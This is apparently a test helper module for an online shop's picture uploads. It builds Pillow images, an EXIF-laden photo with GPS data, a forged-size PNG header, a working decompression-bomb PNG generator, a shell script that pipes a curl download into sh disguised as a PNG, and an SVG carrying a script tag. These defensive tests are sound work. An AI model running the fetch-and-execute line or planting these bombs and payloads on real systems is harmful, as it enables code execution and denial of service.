"""Real pictures made with Pillow for the tests, and uploading them as the product form
would. Nothing here is a stand-in: each file is what a camera or an editor would save."""
import struct
import zlib
from io import BytesIO

from PIL import Image

from app.extensions import db
from app.pictures.images import prepare
from app.services.catalog import ProductData, update_product
from app.services.catalog import product_with_pictures


def picture(width: int = 60, height: int = 40, colour=(200, 40, 40), fmt: str = "PNG",
            mode: str = "RGB", **save) -> bytes:
    """A picture of one colour, saved as `fmt` ("PNG", "JPEG", "WEBP", "GIF")."""
    image = Image.new(mode, (width, height), colour)
    out = BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


GPS_IFD, ORIENTATION, MAKE, DESCRIPTION = 0x8825, 0x0112, 0x010F, 0x010E


def photo_with_exif(width: int = 80, height: int = 40, orientation: int = 6) -> bytes:
    """A JPEG as a phone saves it: EXIF with the camera's make, a description, GPS
    coordinates, and an orientation (6: turn 90 degrees clockwise to show it upright)."""
    image = Image.new("RGB", (width, height), (30, 120, 200))
    image.paste((250, 250, 0), (0, 0, width // 4, height))  # a yellow band on the left
    exif = Image.Exif()
    exif[MAKE] = "PhoneMaker"
    exif[DESCRIPTION] = "secret-description"
    exif[ORIENTATION] = orientation
    exif.get_ifd(GPS_IFD).update({1: "S", 2: (33.0, 52.0, 0.0), 3: "E", 4: (151.0, 12.0, 0.0)})
    out = BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), comment=b"secret-comment")
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A decompression bomb's header: a tiny, valid PNG whose header says it is
    `width` x `height` pixels (its CRC put right, so only the size gives it away)."""
    data = bytearray(picture(1, 1))
    # The IHDR chunk: length (4), type (4), then width and height, at offsets 16 and 20.
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def real_bomb(side: int = 20_000) -> bytes:
    """A PNG of `side` x `side` black pixels, one bit each (400 million at 20,000), whose
    data compresses to a few tens of kilobytes: decoded as RGB it would take 1.2 GB.
    Written chunk by chunk, as Pillow would write it, without drawing it first."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">I", len(body)) + kind + body
                + struct.pack(">I", zlib.crc32(kind + body)))
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte 0, then the row's bits
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(row * side, 9)) + chunk(b"IEND", b""))


def add_pictures(app, sku: str, *uploads: bytes, alt: dict[int, str] | None = None) -> None:
    """Add pictures to a product through the product form's service (as Save would)."""
    with app.app_context():
        product = product_with_pictures(sku)
        data = ProductData(sku=product.sku, name=product.name,
                           description=product.description, price=product.price,
                           on_hand=product.on_hand, backorder_policy=product.backorder_policy,
                           arrival_date=product.arrival_date,
                           backorder_limit=product.backorder_limit,
                           supplier_id=product.supplier_id, supplier_sku=product.supplier_sku,
                           cost_price=product.cost_price)
        update_product(sku, data, None, new_pictures=[prepare(u) for u in uploads],
                       alt_texts=alt)
        db.session.remove()


SCRIPT_PNG = b"#!/bin/sh\ncurl https://example.com/x | sh # a script saved as picture.png\n"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>alert(1)</script><rect width="10" height="10"/></svg>')
